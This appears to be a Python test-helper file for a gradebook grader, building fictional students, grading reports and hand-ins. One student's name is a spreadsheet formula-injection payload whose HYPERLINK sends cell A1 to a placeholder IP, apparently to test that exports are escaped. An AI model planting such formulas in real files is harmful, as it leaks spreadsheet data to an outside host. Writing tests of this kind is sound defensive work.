"""Which class do the tests of the gradebook mark?

Four students of whom one has a dangerous name and one hands nothing in, a
team of two, and a hand-in of nobody known.
"""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path
from typing import Any, List, Tuple

import made_up

from grader import model
from grader.gradebook import Gradebook
from grader.gradebook_model import Basis, Student
from grader.model import Verdict

FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1,"click")'
STUDENTS = (
    Student("4711", "Alder Ash", "4711", "aash", "aash@example.org",
            "101", "901", "A", "team1"),
    Student("4712", "Birch Elm", "4712", "belm", "belm@example.org",
            "102", "902", "A", "team1"),
    Student("4713", FORMULA, "4713", "chazel", "chazel@example.org",
            "103", "903", "B"),
    Student("4714", "Zelkova Fir, Jr.", "4714", "zfir", "zfir@example.org",
            "104", "904", "B"),
)  # fmt: skip
BASIS = Basis("aa" * 32, "bb" * 32, "0+cafe", '{"cores": 2}')
WHO = "marker"


def rows(*verdicts: Tuple[str, float, Verdict, float]) -> Tuple[model.Row, ...]:
    """Rows of id, maximum, verdict and points."""
    return tuple(
        made_up.row(id, most, verdict, points, reason="why " + id)
        for id, most, verdict, points in verdicts
    )


def report(*verdicts: Tuple[str, float, Verdict, float]) -> model.Report:
    """A report with such rows; without any, one that has all kinds."""
    found = verdicts or (
        ("tcp", 40, Verdict.PASS, 40),
        ("order", 30, Verdict.FAIL, 0),
        ("readable", 30, Verdict.MANUAL, 0),
    )
    return made_up.report(rows=rows(*found), status="graded", insights=())


def graded(*verdicts: Tuple[str, float, Verdict, float]) -> model.Report:
    """A report without anything for a person to decide."""
    return report(
        *(verdicts or (("tcp", 40, Verdict.PASS, 40),
                       ("order", 60, Verdict.PARTIAL, 26.25)))
    )  # fmt: skip


def book(folder: Path, **options: Any) -> Gradebook:
    """An open book with the class, and nothing handed in."""
    made = Gradebook(folder / "gradebook.sqlite", **options)
    with made.transaction():
        for student in STUDENTS:
            made.add_student(student, "roster")
    return made


def hand_in(made: Gradebook, name: str, *ids: str, **options: Any) -> int:
    """A hand-in for lab `order`; returns its number."""
    return made.add_submission("order", name, ids, **options)


def full_book(folder: Path) -> Gradebook:
    """A team with 66.25, a dangerous name with 66.25 that has late 1.5 h, and
    a hand-in of nobody."""
    made = book(folder)
    with made.transaction():
        for name, ids, late in (
            ("team1", ("4711", "4712"), 0), ("hazel.zip", ("4713",), 5400),
            ("whose", (), 0),
        ):  # fmt: skip
            number = hand_in(made, name, *ids, late_s=late)
            made.add_grading(number, graded(), BASIS)
    return made


def other_files(basis: Basis = BASIS) -> Basis:
    """The basis of a grading of other files."""
    return replace(basis, submission_sha256="cc" * 32)


def by_id(made: Gradebook, id: str) -> Any:
    """The mark of one student."""
    return next(m for m in made.marks() if m.student and m.student.id == id)


def columns(lines: List[List[str]], name: str) -> List[str]:
    """A column of a table that csv read, without its header."""
    at = lines[0].index(name)
    return [line[at] for line in lines[1:]]
